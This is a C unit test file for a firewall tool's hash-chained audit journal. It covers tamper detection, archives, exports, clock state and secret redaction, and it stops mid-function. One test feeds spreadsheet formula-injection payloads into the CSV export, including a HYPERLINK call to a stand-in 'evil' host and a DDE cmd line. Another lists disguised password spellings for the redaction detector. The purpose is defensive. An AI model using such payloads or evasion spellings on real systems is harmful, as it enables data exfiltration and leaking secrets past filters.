/* SPDX-License-Identifier: BSD-2-Clause */
/* Journal: hash chain and every tamper class, retention and archives,
 * queries, exports parsed back, secrets, reasons, clock state. */
#include <CUnit/Basic.h>
#include <errno.h>
#include <jansson.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/timex.h>
#include <unistd.h>

#include "journal.h"

#include "jprint.h"
#include "testutil.h"

static char dir[256];
static char dbpath[300];
static const int64_t DAY_US = 86400LL * 1000000;

static struct zw_journal *fresh(void)
{
	char err[256];
	struct zw_journal *j;

	zwt_tmpdir(dir, sizeof(dir), "journal");
	snprintf(dbpath, sizeof(dbpath), "%s/zonewall.db", dir);
	j = zw_journal__open(dbpath, 0, err, sizeof(err));
	CU_ASSERT_PTR_NOT_NULL_FATAL(j);
	return j;
}

static void add(struct zw_journal *j, enum zw_journal_action a,
		const char *flow, const char *reason, int64_t t)
{
	struct zw_journal_entry e = {
		.action = a,
		.uid = 1000,
		.user = "alice",
		.version = 1,
		.reason = reason,
		.flow = flow,
		.after = flow ? "{\"id\":\"x\",\"to\":\"jump\"}" : NULL,
		.impl = flow ? "{\"file\":\"rule 1\",\"nft\":\"ip saddr ...\"}"
			     : NULL,
		.time_us = t,
	};
	CU_ASSERT_EQUAL_FATAL(zw_journal__append(j, &e, NULL), 0);
}

static void fill(struct zw_journal *j, int n)
{
	char flow[32], reason[64];

	for (int i = 1; i <= n; i++) {
		snprintf(flow, sizeof(flow), "F-%03d", i);
		snprintf(reason, sizeof(reason), "reason %d", i);
		add(j, ZW_JA_FLOW_ADDED, flow, reason, 0);
	}
}

static void sql(const char *stmt)
{
	sqlite3 *db;
	char *msg = NULL;

	CU_ASSERT_EQUAL_FATAL(sqlite3_open(dbpath, &db), SQLITE_OK);
	if (sqlite3_exec(db, stmt, NULL, NULL, &msg) != SQLITE_OK) {
		fprintf(stderr, "sql: %s: %s\n", stmt, msg);
		CU_FAIL("sql");
	}
	sqlite3_free(msg);
	sqlite3_close(db);
}

#define UNLOCK                                                                 \
	"DROP TRIGGER journal_no_update; DROP TRIGGER journal_keep_a_year;"

static struct zw_journal_verify verify_path(void)
{
	struct zw_journal_verify v;
	char err[256];
	struct zw_journal *j = zw_journal__open(dbpath, ZW_JOURNAL_RDONLY, err,
						sizeof(err));

	memset(&v, 0, sizeof(v));
	CU_ASSERT_PTR_NOT_NULL_FATAL(j);
	CU_ASSERT_EQUAL(zw_journal__verify(j, &v), 0);
	zw_journal__free(j);
	return v;
}

static void test_chain_ok(void)
{
	struct zw_journal *j = fresh();
	struct zw_journal_verify v;
	int64_t seq;
	char hash[65];

	fill(j, 10);
	CU_ASSERT_EQUAL(zw_journal__verify(j, &v), 0);
	CU_ASSERT_TRUE(v.ok);
	CU_ASSERT_EQUAL(v.entries, 10);
	zw_journal__head(j, &seq, hash);
	CU_ASSERT_EQUAL(seq, 10);
	CU_ASSERT_STRING_EQUAL(hash, v.head_hash);
	zw_journal__free(j);
	/* Reopen: the head is found again and the chain continues. */
	j = zw_journal__open(dbpath, 0, NULL, 0);
	fill(j, 1);
	CU_ASSERT_EQUAL(zw_journal__verify(j, &v), 0);
	CU_ASSERT_TRUE(v.ok);
	CU_ASSERT_EQUAL(v.entries, 11);
	zw_journal__free(j);
}

static void test_append_only_triggers(void)
{
	struct zw_journal *j = fresh();
	sqlite3 *db;

	fill(j, 3);
	zw_journal__free(j);
	CU_ASSERT_EQUAL_FATAL(sqlite3_open(dbpath, &db), SQLITE_OK);
	CU_ASSERT_NOT_EQUAL(sqlite3_exec(db, "UPDATE journal SET flow='X'",
					 NULL, NULL, NULL),
			    SQLITE_OK);
	CU_ASSERT_NOT_EQUAL(sqlite3_exec(db, "DELETE FROM journal WHERE seq=2",
					 NULL, NULL, NULL),
			    SQLITE_OK);
	sqlite3_close(db);
	CU_ASSERT_TRUE(verify_path().ok);
}

static void test_tamper_modify(void)
{
	struct zw_journal *j = fresh();
	struct zw_journal_verify v;

	fill(j, 6);
	zw_journal__free(j);
	sql(UNLOCK "UPDATE journal SET content=replace(content,'reason 3',"
		   "'reason X') WHERE seq=3");
	v = verify_path();
	CU_ASSERT_FALSE(v.ok);
	CU_ASSERT_EQUAL(v.bad_seq, 3);
	CU_ASSERT_PTR_NOT_NULL(strstr(v.problem, "modified"));
}

static void test_tamper_modify_rehash(void)
{
	struct zw_journal *j = fresh();
	struct zw_journal_verify v;
	sqlite3 *db;
	sqlite3_stmt *st;
	char *content, hash[65];

	fill(j, 6);
	zw_journal__free(j);
	/* A careful forger also recomputes the entry's own hash. */
	sql(UNLOCK);
	CU_ASSERT_EQUAL_FATAL(sqlite3_open(dbpath, &db), SQLITE_OK);
	sqlite3_prepare_v2(db, "SELECT content FROM journal WHERE seq=3", -1,
			   &st, NULL);
	CU_ASSERT_EQUAL_FATAL(sqlite3_step(st), SQLITE_ROW);
	content = strdup((const char *)sqlite3_column_text(st, 0));
	sqlite3_finalize(st);
	char *p = strstr(content, "reason 3");
	CU_ASSERT_PTR_NOT_NULL_FATAL(p);
	p[7] = '9';
	zwt_sha256_hex(content, hash);
	sqlite3_prepare_v2(db, "UPDATE journal SET content=?, hash=? WHERE seq=3",
			   -1, &st, NULL);
	sqlite3_bind_text(st, 1, content, -1, SQLITE_STATIC);
	sqlite3_bind_text(st, 2, hash, -1, SQLITE_STATIC);
	CU_ASSERT_EQUAL(sqlite3_step(st), SQLITE_DONE);
	sqlite3_finalize(st);
	sqlite3_close(db);
	free(content);
	v = verify_path();
	CU_ASSERT_FALSE(v.ok);
	CU_ASSERT_EQUAL(v.bad_seq, 4);
	CU_ASSERT_PTR_NOT_NULL(strstr(v.problem, "entry 3 was modified"));
}

static void test_tamper_column(void)
{
	struct zw_journal *j = fresh();
	struct zw_journal_verify v;

	fill(j, 4);
	zw_journal__free(j);
	sql(UNLOCK "UPDATE journal SET flow='F-999' WHERE seq=2");
	v = verify_path();
	CU_ASSERT_FALSE(v.ok);
	CU_ASSERT_EQUAL(v.bad_seq, 2);
}

static void test_tamper_delete(void)
{
	struct zw_journal *j = fresh();
	struct zw_journal_verify v;

	fill(j, 6);
	zw_journal__free(j);
	sql(UNLOCK "DELETE FROM journal WHERE seq=4");
	v = verify_path();
	CU_ASSERT_FALSE(v.ok);
	CU_ASSERT_EQUAL(v.bad_seq, 4);
	CU_ASSERT_PTR_NOT_NULL(strstr(v.problem, "missing"));
}

static void test_tamper_delete_first(void)
{
	struct zw_journal *j = fresh();
	struct zw_journal_verify v;

	fill(j, 3);
	zw_journal__free(j);
	/* Delete entry 1 and renumber so the sequence looks whole. */
	sql(UNLOCK "DELETE FROM journal WHERE seq=1;"
		   "UPDATE journal SET seq=seq-1;");
	v = verify_path();
	CU_ASSERT_FALSE(v.ok);
	CU_ASSERT_EQUAL(v.bad_seq, 1);
}

static void test_tamper_reorder(void)
{
	struct zw_journal *j = fresh();
	struct zw_journal_verify v;

	fill(j, 6);
	zw_journal__free(j);
	/* Swap entries 2 and 3 (rows keep their position). */
	sql(UNLOCK "CREATE TEMP TABLE t AS SELECT * FROM journal WHERE seq IN (2,3);"
		   "UPDATE journal SET (time_us, action, version, flow, content,"
		   " prev, hash) = (SELECT time_us, action, version, flow,"
		   " content, prev, hash FROM t WHERE t.seq = 5 - journal.seq)"
		   " WHERE seq IN (2,3);");
	v = verify_path();
	CU_ASSERT_FALSE(v.ok);
	CU_ASSERT_EQUAL(v.bad_seq, 2);
	CU_ASSERT_PTR_NOT_NULL(strstr(v.problem, "reordered"));
}

static void test_tamper_insert(void)
{
	struct zw_journal *j = fresh();
	struct zw_journal_verify v;
	struct zw_journal *forger;
	sqlite3 *db;
	sqlite3_stmt *st;
	char err[256], fpath[400];

	fill(j, 5);
	zw_journal__free(j);
	/* The forger builds a well-formed entry 3 chained on entry 2 (in a
	 * scratch journal holding copies of entries 1-2), then shifts the
	 * real entries 3.. up by one and slips the forged row in. */
	snprintf(fpath, sizeof(fpath), "%s/forge.db", dir);
	sql(UNLOCK);
	{
		char stmt[1024];

		snprintf(stmt, sizeof(stmt),
			 "ATTACH '%s' AS f;"
			 "CREATE TABLE f.journal AS SELECT * FROM journal"
			 " WHERE seq <= 2;",
			 fpath);
		sql(stmt);
	}
	forger = zw_journal__open(fpath, 0, err, sizeof(err));
	CU_ASSERT_PTR_NOT_NULL_FATAL(forger);
	add(forger, ZW_JA_FLOW_REMOVED, "F-001", "forged", 0);
	zw_journal__free(forger);
	{
		char stmt[1024];

		snprintf(stmt, sizeof(stmt),
			 "ATTACH '%s' AS f;"
			 "UPDATE journal SET seq = -seq WHERE seq >= 3;"
			 "UPDATE journal SET seq = 1 - seq WHERE seq < 0;"
			 "INSERT INTO journal SELECT * FROM f.journal"
			 " WHERE seq = 3;",
			 fpath);
		sql(stmt);
	}
	CU_ASSERT_EQUAL_FATAL(sqlite3_open(dbpath, &db), SQLITE_OK);
	sqlite3_prepare_v2(db, "SELECT count(*) FROM journal", -1, &st, NULL);
	sqlite3_step(st);
	CU_ASSERT_EQUAL(sqlite3_column_int(st, 0), 6);
	sqlite3_finalize(st);
	sqlite3_close(db);
	v = verify_path();
	CU_ASSERT_FALSE(v.ok);
	/* The forged entry itself is well formed; the real entry 3, now at
	 * position 4, betrays the insertion. */
	CU_ASSERT_EQUAL(v.bad_seq, 4);
}

static void test_retention_and_archive(void)
{
	struct zw_journal *j = fresh();
	struct zw_journal_verify v;
	struct zw_journal_entry who = {.uid = 0, .user = "root",
				       .reason = "yearly archive"};
	int64_t now = zw_time__now_us(), n = 0;
	char path[512];
	int r;

	/* 20 entries two years old, 5 from 400 days ago, 5 recent. */
	for (int i = 0; i < 20; i++)
		add(j, ZW_JA_FLOW_ADDED, "F-old", "old", now - 730 * DAY_US + i);
	for (int i = 0; i < 5; i++)
		add(j, ZW_JA_FLOW_CHANGED, "F-mid", "mid", now - 400 * DAY_US + i);
	for (int i = 0; i < 5; i++)
		add(j, ZW_JA_FLOW_CHANGED, "F-new", "new", now - 10 * DAY_US + i);
	/* Nothing younger than 365 days may be archived. */
	r = zw_journal__archive(j, now - 100 * DAY_US, 0, &who, &n, NULL, 0);
	CU_ASSERT_EQUAL(r, -EPERM);
	CU_ASSERT_EQUAL(n, 0);
	/* The retention trigger refuses a raw delete of a young entry. */
	{
		sqlite3 *db;

		sqlite3_open(dbpath, &db);
		CU_ASSERT_NOT_EQUAL(sqlite3_exec(db,
						 "DELETE FROM journal WHERE"
						 " seq = 30",
						 NULL, NULL, NULL),
				    SQLITE_OK);
		sqlite3_close(db);
	}
	/* Archive what is older than 700 days, but keep what the log
	 * server has not received (seq >= 15). */
	r = zw_journal__archive(j, now - 700 * DAY_US, 15, &who, &n, path,
				sizeof(path));
	CU_ASSERT_EQUAL(r, 0);
	CU_ASSERT_EQUAL(n, 14);
	CU_ASSERT_PTR_NOT_NULL(strstr(path, "journal-000000000001-000000000014"));
	CU_ASSERT_EQUAL(access(path, R_OK), 0);
	/* And now everything older than a year. */
	r = zw_journal__archive(j, now - 366 * DAY_US, 0, &who, &n, NULL, 0);
	CU_ASSERT_EQUAL(r, 0);
	CU_ASSERT_EQUAL(n, 11);
	CU_ASSERT_EQUAL(zw_journal__verify(j, &v), 0);
	CU_ASSERT_TRUE(v.ok);
	CU_ASSERT_EQUAL(v.entries, 32); /* 30 + 2 archive entries */
	CU_ASSERT_EQUAL(v.archived, 25);
	/* The recent ones are still in the database; the chain goes on. */
	add(j, ZW_JA_FLOW_REMOVED, "F-new", "gone", 0);
	CU_ASSERT_EQUAL(zw_journal__verify(j, &v), 0);
	CU_ASSERT_TRUE(v.ok);
	CU_ASSERT_EQUAL(v.entries, 33);
	/* Queries read through the archives. */
	{
		struct zw_jprint p;
		struct zw_journal_filter f = {.flow = "F-mid",
					      .with_archive = true};
		FILE *mem;
		char *buf = NULL;
		size_t len = 0;

		mem = open_memstream(&buf, &len);
		zw_jprint__begin(&p, mem, ZW_JF_JSON);
		CU_ASSERT_EQUAL(zw_journal__foreach(j, &f, zw_jprint__cb, &p), 0);
		zw_jprint__end(&p);
		fclose(mem);
		json_t *doc = json_loads(buf, 0, NULL);
		CU_ASSERT_PTR_NOT_NULL_FATAL(doc);
		CU_ASSERT_EQUAL(json_integer_value(json_object_get(doc, "count")), 5);
		json_decref(doc);
		free(buf);
	}
	zw_journal__free(j);

	/* A tampered archive is detected and named. */
	{
		FILE *fa = fopen(path, "r+");
		int c;

		CU_ASSERT_PTR_NOT_NULL_FATAL(fa);
		fseek(fa, 40, SEEK_SET);
		c = fgetc(fa);
		fseek(fa, 40, SEEK_SET);
		fputc(c == 'a' ? 'b' : 'a', fa);
		fclose(fa);
	}
	v = verify_path();
	CU_ASSERT_FALSE(v.ok);
	CU_ASSERT_EQUAL(v.bad_seq, 1);
	CU_ASSERT_PTR_NOT_NULL(strstr(v.problem, "archive journal-000000000001"));
}

static void test_archive_removed(void)
{
	struct zw_journal *j = fresh();
	struct zw_journal_verify v;
	int64_t now = zw_time__now_us(), n;

	for (int i = 0; i < 4; i++)
		add(j, ZW_JA_FLOW_ADDED, "F-old", "old", now - 800 * DAY_US + i);
	add(j, ZW_JA_FLOW_ADDED, "F-new", "new", 0);
	CU_ASSERT_EQUAL(zw_journal__archive(j, now - 400 * DAY_US, 0, NULL, &n,
					    NULL, 0),
			0);
	CU_ASSERT_EQUAL(n, 4);
	zw_journal__free(j);
	CU_ASSERT_TRUE(verify_path().ok);
	sql("DELETE FROM journal_archive");
	v = verify_path();
	CU_ASSERT_FALSE(v.ok);
	CU_ASSERT_EQUAL(v.bad_seq, 1);
}

/* Minimal RFC 4180 reader: fields of one record; returns count. */
static int csv_record(const char **pp, char fields[][512], int max)
{
	const char *p = *pp;
	int n = 0;

	if (!*p)
		return 0;
	for (;;) {
		size_t k = 0;

		if (*p == '"') {
			p++;
			while (*p && !(*p == '"' && p[1] != '"')) {
				if (*p == '"')
					p++;
				if (k < 511)
					fields[n][k++] = *p;
				p++;
			}
			if (*p == '"')
				p++;
		} else {
			while (*p && *p != ',' && *p != '\r' && *p != '\n') {
				if (k < 511)
					fields[n][k++] = *p;
				p++;
			}
		}
		fields[n][k] = '\0';
		n++;
		if (*p == ',' && n < max) {
			p++;
			continue;
		}
		break;
	}
	if (*p == '\r')
		p++;
	if (*p == '\n')
		p++;
	*pp = p;
	return n;
}

static void test_exports(void)
{
	struct zw_journal *j = fresh();
	struct zw_jprint p;
	char *buf = NULL;
	size_t len = 0;
	FILE *mem;
	static char f[32][512];
	const char *cur;
	int n;

	add(j, ZW_JA_FLOW_ADDED, "F-001", "needs \"quotes\", commas, and more",
	    0);
	add(j, ZW_JA_COMMIT, NULL, "second; plain", 0);

	/* CSV parses back: header, then one record per entry, same values. */
	mem = open_memstream(&buf, &len);
	zw_jprint__begin(&p, mem, ZW_JF_CSV);
	CU_ASSERT_EQUAL(zw_journal__foreach(j, NULL, zw_jprint__cb, &p), 0);
	zw_jprint__end(&p);
	fclose(mem);
	cur = buf;
	n = csv_record(&cur, f, 32);
	CU_ASSERT_EQUAL(n, 17);
	CU_ASSERT_STRING_EQUAL(f[0], "seq");
	CU_ASSERT_STRING_EQUAL(f[10], "reason");
	n = csv_record(&cur, f, 32);
	CU_ASSERT_EQUAL(n, 17);
	CU_ASSERT_STRING_EQUAL(f[0], "1");
	CU_ASSERT_STRING_EQUAL(f[5], "alice");
	CU_ASSERT_STRING_EQUAL(f[6], "flow-added");
	CU_ASSERT_STRING_EQUAL(f[8], "F-001");
	CU_ASSERT_STRING_EQUAL(f[10], "needs \"quotes\", commas, and more");
	CU_ASSERT_STRING_EQUAL(f[13], "{\"id\":\"x\",\"to\":\"jump\"}");
	CU_ASSERT_STRING_EQUAL(f[14], "file: rule 1\nnft: ip saddr ...");
	CU_ASSERT_STRING_EQUAL(f[15], ZW_JOURNAL_GENESIS);
	n = csv_record(&cur, f, 32);
	CU_ASSERT_EQUAL(n, 17);
	CU_ASSERT_STRING_EQUAL(f[6], "commit");
	CU_ASSERT_STRING_EQUAL(f[8], "");
	CU_ASSERT_EQUAL(csv_record(&cur, f, 32), 0);
	free(buf);

	/* JSON parses back: one document, entries with their hashes, which
	 * are the SHA-256 of the canonical content without "hash". */
	buf = NULL;
	mem = open_memstream(&buf, &len);
	zw_jprint__begin(&p, mem, ZW_JF_JSON);
	CU_ASSERT_EQUAL(zw_journal__foreach(j, NULL, zw_jprint__cb, &p), 0);
	zw_jprint__end(&p);
	fclose(mem);
	json_t *doc = json_loads(buf, 0, NULL);
	CU_ASSERT_PTR_NOT_NULL_FATAL(doc);
	json_t *ents = json_object_get(doc, "entries");
	CU_ASSERT_EQUAL(json_array_size(ents), 2);
	json_t *e0 = json_deep_copy(json_array_get(ents, 0));
	char h[65];
	char *hash = strdup(json_string_value(json_object_get(e0, "hash")));
	json_object_del(e0, "hash");
	char *canon = json_dumps(e0, JSON_COMPACT | JSON_SORT_KEYS |
					     JSON_ENSURE_ASCII);
	zwt_sha256_hex(canon, h);
	CU_ASSERT_STRING_EQUAL(h, hash);
	CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(
				       json_object_get(e0, "after"), "to")),
			       "jump");
	free(canon);
	free(hash);
	json_decref(e0);
	json_decref(doc);
	free(buf);
	zw_journal__free(j);
}

static int count_cb(int64_t s, const char *c, const char *h, void *x)
{
	(void)s;
	(void)c;
	(void)h;
	(*(int *)x)++;
	return 0;
}

static int last_cb(int64_t s, const char *content, const char *h, void *x)
{
	json_t **out = x;

	(void)s;
	(void)h;
	json_decref(*out);
	*out = json_loads(content, 0, NULL);
	return 0;
}

/* A reason that a spreadsheet would evaluate (=HYPERLINK, +cmd, -, @)
 * is exported in CSV with a leading apostrophe, as zonectl show --format
 * csv does; the JSON export keeps it exact. */
static void test_csv_formulas(void)
{
	static const char *const reasons[] = {
		"=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
		"+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1,2)",
		"plain reason",
	};
	struct zw_journal *j = fresh();
	struct zw_jprint p;
	char *buf = NULL;
	size_t len = 0;
	FILE *mem;
	static char f[32][512];
	const char *cur;

	for (size_t i = 0; i < 5; i++)
		add(j, ZW_JA_COMMIT, NULL, reasons[i], 0);
	mem = open_memstream(&buf, &len);
	zw_jprint__begin(&p, mem, ZW_JF_CSV);
	CU_ASSERT_EQUAL(zw_journal__foreach(j, NULL, zw_jprint__cb, &p), 0);
	zw_jprint__end(&p);
	fclose(mem);
	cur = buf;
	CU_ASSERT_EQUAL(csv_record(&cur, f, 32), 17);
	for (size_t i = 0; i < 5; i++) {
		char want[600];

		snprintf(want, sizeof(want), "%s%s", i < 4 ? "'" : "", reasons[i]);
		CU_ASSERT_EQUAL(csv_record(&cur, f, 32), 17);
		if (strcmp(f[10], want))
			fprintf(stderr, "\ncsv reason %s, wanted %s\n", f[10], want);
		CU_ASSERT_STRING_EQUAL(f[10], want);
	}
	free(buf);

	buf = NULL;
	mem = open_memstream(&buf, &len);
	zw_jprint__begin(&p, mem, ZW_JF_JSON);
	CU_ASSERT_EQUAL(zw_journal__foreach(j, NULL, zw_jprint__cb, &p), 0);
	zw_jprint__end(&p);
	fclose(mem);
	CU_ASSERT_PTR_NOT_NULL(strstr(buf, "\"reason\": \"=HYPERLINK("));
	free(buf);
	zw_journal__free(j);
}

static void test_query_filters(void)
{
	struct zw_journal *j = fresh();
	int64_t now = zw_time__now_us();
	int count = 0;
	struct zw_journal_filter f = {0};

	add(j, ZW_JA_FLOW_ADDED, "A", "r", now - 10 * DAY_US);
	add(j, ZW_JA_FLOW_ADDED, "B", "r", now - 5 * DAY_US);
	add(j, ZW_JA_FLOW_CHANGED, "A", "r", now - 1 * DAY_US);
	f.flow = "A";
	zw_journal__foreach(j, &f, count_cb, &count);
	CU_ASSERT_EQUAL(count, 2);
	count = 0;
	f.flow = NULL;
	f.since_us = now - 7 * DAY_US;
	zw_journal__foreach(j, &f, count_cb, &count);
	CU_ASSERT_EQUAL(count, 2);
	count = 0;
	f.since_us = 0;
	f.after_seq = 1;
	f.limit = 1;
	zw_journal__foreach(j, &f, count_cb, &count);
	CU_ASSERT_EQUAL(count, 1);
	zw_journal__free(j);
}

static void test_transaction_abort(void)
{
	struct zw_journal *j = fresh();
	struct zw_journal_verify v;
	int64_t seq;

	fill(j, 2);
	CU_ASSERT_EQUAL(zw_journal__begin(j), 0);
	fill(j, 3);
	CU_ASSERT_EQUAL(zw_journal__abort(j), 0);
	zw_journal__head(j, &seq, NULL);
	CU_ASSERT_EQUAL(seq, 2);
	fill(j, 1);
	CU_ASSERT_EQUAL(zw_journal__verify(j, &v), 0);
	CU_ASSERT_TRUE(v.ok);
	CU_ASSERT_EQUAL(v.entries, 3);
	/* Invalid JSON in before/after is refused. */
	struct zw_journal_entry e = {.action = ZW_JA_FLOW_ADDED,
				     .after = "{not json"};
	CU_ASSERT_EQUAL(zw_journal__append(j, &e, NULL), -EINVAL);
	e.after = NULL;
	e.action = 0;
	CU_ASSERT_EQUAL(zw_journal__append(j, &e, NULL), -EINVAL);
	zw_journal__free(j);
}

static void test_clock_state_recorded(void)
{
	struct zw_journal *j = fresh();
	struct timex tx = {0};
	int st = ntp_adjtime(&tx);
	bool synced = st != TIME_ERROR && !(tx.status & STA_UNSYNC);
	struct zw_clock_state cs, fake = {.synced = false, .state = TIME_ERROR,
					  .maxerror_us = 16000000};
	json_t *c;

	zw_clock__read(&cs);
	CU_ASSERT_EQUAL(cs.state, st);
	CU_ASSERT_EQUAL(cs.synced, synced);
	CU_ASSERT_STRING_EQUAL(zw_clock__state_name(TIME_ERROR), "TIME_ERROR");
	add(j, ZW_JA_COMMIT, NULL, "r", 0);
	c = NULL;
	zw_journal__foreach(j, NULL, last_cb, &c);
	CU_ASSERT_PTR_NOT_NULL_FATAL(c);
	json_t *clk = json_object_get(c, "clock");
	CU_ASSERT_EQUAL(json_is_true(json_object_get(clk, "synced")), synced);
	CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(clk, "state")),
			       zw_clock__state_name(st));
	json_decref(c);
	/* An explicit (unsynchronised) state is recorded as given. */
	struct zw_journal_entry e = {.action = ZW_JA_COMMIT, .reason = "r",
				     .clock = &fake};
	CU_ASSERT_EQUAL(zw_journal__append(j, &e, NULL), 0);
	c = NULL;
	zw_journal__foreach(j, NULL, last_cb, &c);
	clk = json_object_get(c, "clock");
	CU_ASSERT_TRUE(json_is_false(json_object_get(clk, "synced")));
	CU_ASSERT_EQUAL(json_integer_value(json_object_get(clk, "maxerror_us")),
			16000000);
	json_decref(c);
	zw_journal__free(j);
}

/* Times go back only across a clock-step entry (issue 10, item 2): an
 * entry dated before the one preceding it fails verify, unless it is the
 * clock-step entry that records the step. */
static void test_time_order(void)
{
	struct zw_journal *j = fresh();
	struct zw_journal_verify v;
	int64_t now = zw_time__now_us();

	add(j, ZW_JA_COMMIT, NULL, "first", now);
	add(j, ZW_JA_CLOCK_STEP, NULL, "clock went back", now - 2 * DAY_US);
	add(j, ZW_JA_FLOW_ADDED, "F-001", "after the step", now - 2 * DAY_US + 5);
	CU_ASSERT_EQUAL(zw_journal__verify(j, &v), 0);
	CU_ASSERT_TRUE(v.ok);
	CU_ASSERT_STRING_EQUAL(zw_journal_action__name(ZW_JA_CLOCK_STEP),
			       "clock-step");
	CU_ASSERT_STRING_EQUAL(zw_journal_action__name(ZW_JA_DRIFT), "drift");
	/* back again, unflagged */
	add(j, ZW_JA_FLOW_ADDED, "F-002", "unflagged", now - 3 * DAY_US);
	CU_ASSERT_EQUAL(zw_journal__verify(j, &v), 0);
	CU_ASSERT_FALSE(v.ok);
	CU_ASSERT_EQUAL(v.bad_seq, 4);
	CU_ASSERT_PTR_NOT_NULL(strstr(v.problem, "no clock-step entry"));
	zw_journal__free(j);
}

static void test_time_format(void)
{
	char buf[32];
	int64_t us;

	CU_ASSERT_STRING_EQUAL(zw_time__format(1793534400000123LL, buf),
			       "2026-11-01T12:00:00.000123Z");
	CU_ASSERT_EQUAL(zw_time__parse(buf, &us), 0);
	CU_ASSERT_EQUAL(us, 1793534400000123LL);
	CU_ASSERT_EQUAL(zw_time__parse("2026-11-01T12:00:00Z", &us), 0);
	CU_ASSERT_EQUAL(us, 1793534400000000LL);
	CU_ASSERT_EQUAL(zw_time__parse("2026-11-01 12:00:00Z", &us), -EINVAL);
	CU_ASSERT_EQUAL(zw_time__parse("2026-11-01T12:00:00", &us), -EINVAL);
}

static void test_secrets(void)
{
	static const struct {
		const char *in, *out;
	} cases[] = {
		{"rotate password=hunter2 now", "rotate password=[redacted] now"},
		{"PWD: s3cr3t!", "PWD: [redacted]"},
		{"mot de passe : azerty", "mot de passe : [redacted]"},
		{"api_key=abc123", "api_key=[redacted]"},
		{"see https://admin:Sup3rS3cret@10.0.0.1/x",
		 "see https://admin:[redacted]@10.0.0.1/x"},
		{"hash $6$rounds=5000$abcdefgh$Zx9 end", "hash [redacted] end"},
		{"ldap {SSHA}aGVsbG8gd29ybGQ= x", "ldap [redacted] x"},
		{"tok AKIAIOSFODNN7EXAMPLEwJalrXUtnFEMI9K end",
		 "tok [redacted] end"},
		{"k -----BEGIN RSA PRIVATE KEY-----\nMIIabc\n-----END RSA "
		 "PRIVATE KEY----- after",
		 "k [redacted] after"},
	};
	static const char *clean[] = {
		"Open ssh from ops to jump for the new bastion (CHG-1234)",
		"image 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
		"bypass mode off; compass: north",
		"ticket: INC-42",
		"price $5 per month",
	};
	char what[64];

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char *s = zw_secret__scrub(cases[i].in);

		CU_ASSERT_TRUE(zw_secret__find(cases[i].in, what, sizeof(what)));
		CU_ASSERT_PTR_NOT_NULL_FATAL(s);
		if (strcmp(s, cases[i].out))
			fprintf(stderr, "scrub(%s) = %s\n", cases[i].in, s);
		CU_ASSERT_STRING_EQUAL(s, cases[i].out);
		CU_ASSERT_FALSE(zw_secret__find(s, NULL, 0));
		free(s);
	}
	for (size_t i = 0; i < sizeof(clean) / sizeof(clean[0]); i++) {
		char *s = zw_secret__scrub(clean[i]);

		if (zw_secret__find(clean[i], what, sizeof(what)))
			fprintf(stderr, "false positive (%s): %s\n", what,
				clean[i]);
		CU_ASSERT_FALSE(zw_secret__find(clean[i], NULL, 0));
		CU_ASSERT_STRING_EQUAL(s, clean[i]);
		free(s);
	}
}

/* Secrets spelled to slip past the patterns: pw=, a password glued to -p,
 * invisible characters inside the keyword, full-width, mathematical or
 * look-alike letters. Found, and redacted in the original text. */
static void test_secrets_folded(void)
{
	static const struct {
		const char *in, *out;
	} cases[] = {
		{"new pw=Hunter2xyz", "new pw=[redacted]"},
		{"restore with mysql -uroot -pHunter2xyz now",
		 "restore with mysql -uroot -p[redacted] now"},
		{"mysql -psecretword", "mysql -p[redacted]"},
		{"pass\xe2\x80\x8bword=Hunter2", /* U+200B zero-width space */
		 "pass\xe2\x80\x8bword=[redacted]"},
		{"pass\xc2\xadword: Hunter2", /* U+00AD soft hyphen */
		 "pass\xc2\xadword: [redacted]"},
		{"pass\xe2\x81\xa0word = Hunter2 end", /* U+2060 word joiner */
		 "pass\xe2\x81\xa0word = [redacted] end"},
		/* full-width "password＝" */
		{"\xef\xbd\x90\xef\xbd\x81\xef\xbd\x93\xef\xbd\x93\xef\xbd\x97\xef\xbd\x8f\xef\xbd\x92\xef\xbd\x84\xef\xbc\x9dhunter2",
		 "\xef\xbd\x90\xef\xbd\x81\xef\xbd\x93\xef\xbd\x93\xef\xbd\x97\xef\xbd\x8f\xef\xbd\x92\xef\xbd\x84\xef\xbc\x9d[redacted]"},
		/* Cyrillic a and o */
		{"p\xd0\xb0ssw\xd0\xberd=hunter2", "p\xd0\xb0ssw\xd0\xberd=[redacted]"},
		/* combining acute on the a, mathematical bold "pw" */
		{"pa\xcc\x81ssword=hunter2", "pa\xcc\x81ssword=[redacted]"},
		{"\xf0\x9d\x90\xa9\xf0\x9d\x90\xb0=hunter2", "\xf0\x9d\x90\xa9\xf0\x9d\x90\xb0=[redacted]"},
		/* the value itself spelled full-width is still redacted whole */
		{"token=\xef\xbc\xa1\xef\xbc\xa2\xef\xbc\xa3 end", "token=[redacted] end"},
	};
	static const char *clean[] = {
		"ssh -p 2222 to the jump hosts",
		"scan with nmap -p1-1024,8080",
		"find / -prune -print",
		"pre-prod rollout (-production flag off)",
		"Ouverture du flux de supervision \xc3\xa9t\xc3\xa9 (caf\xc3\xa9)",
		"\xd0\x9f\xd0\xb5\xd1\x80\xd0\xb5\xd0\xb2\xd0\xbe\xd0\xb4 \xd1\x81\xd0\xb5\xd1\x80\xd0\xb2\xd0\xb5\xd1\x80\xd0\xb0", /* Russian */
	};
	static const struct {
		const char *doc;
		bool secret;
		size_t line;
	} docs[] = {
		{"zones:\n  token: {kind: servers, networks: [10.0.0.0/8]}\n", false, 0},
		{"zones:\n  secret:\n    kind: servers\n", false, 0},
		{"services:\n  pass: [{proto: tcp, ports: [1]}]\n", false, 0},
		{"zonewall: 1\n# db password: hunter2\n", true, 2},
		{"flows:\n  - id: Backup-Nightly-Server01-To-Storage02\n", false, 0},
		{"flows:\n  - {id: \"Backup-Nightly-Server01-To-Storage02\", from: a}\n", false, 0},
		{"a: 1\nb: 2\n# AKIAIOSFODNN7EXAMPLEwJalrXUtnFEMI9K\n", true, 3},
		{"# pass\xe2\x80\x8bword=Hunter2\n", true, 1},
		{"# reach it with ssh -p 2222\n", false, 0},
	};
	char what[64];

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char *s = zw_secret__scrub(cases[i].in);

